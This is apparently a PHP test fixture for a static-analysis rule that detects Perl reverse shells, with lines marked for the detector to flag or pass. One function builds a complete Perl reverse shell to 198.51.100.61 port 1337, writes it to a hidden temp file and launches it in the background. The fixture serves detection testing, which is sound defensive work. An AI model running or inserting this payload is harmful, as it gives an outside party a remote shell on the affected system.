<?php
// Fixture for generic-perl-reverse-shell. The socket and STDIN dup below are file-level
// conditions; each ruleid line is a shell exec that completes a Perl reverse shell.
// RULEID: a Perl reverse shell split over concatenated PHP strings and dropped to disk; exec of
// /bin/bash -i; a bare exec of sh.
// OK: exec of a non-shell program; a PHP exec() call of a shell command (not Perl's exec
// string); a comment naming sh.
function helper_daemon()
{
    $perl = 'use Socket;$i="198.51.100.61";$p=1337;'
        . 'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        . 'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
        . 'open(STDOUT,">&S");open(STDERR,">&S");'
        // ruleid: generic-perl-reverse-shell
        . 'exec("/bin/sh -i");};';
    $path = sys_get_temp_dir() . '/.helper';
    @file_put_contents($path, $perl);
    @exec('nohup /usr/bin/perl ' . escapeshellarg($path) . ' >/dev/null 2>&1 &');
}

$alt = 'socket(C, PF_INET, SOCK_STREAM, 6); connect(C, $addr); open STDOUT, ">&C"; '
    // ruleid: generic-perl-reverse-shell
    . 'exec "/bin/bash -i";';

// ruleid: generic-perl-reverse-shell
$short = 'exec("sh");';

// ok: generic-perl-reverse-shell
$tool = 'exec("/usr/bin/perl", "-v");';
// ok: generic-perl-reverse-shell
exec('ls -l /tmp', $out);
// ok: generic-perl-reverse-shell
// the helper then execs sh in the child
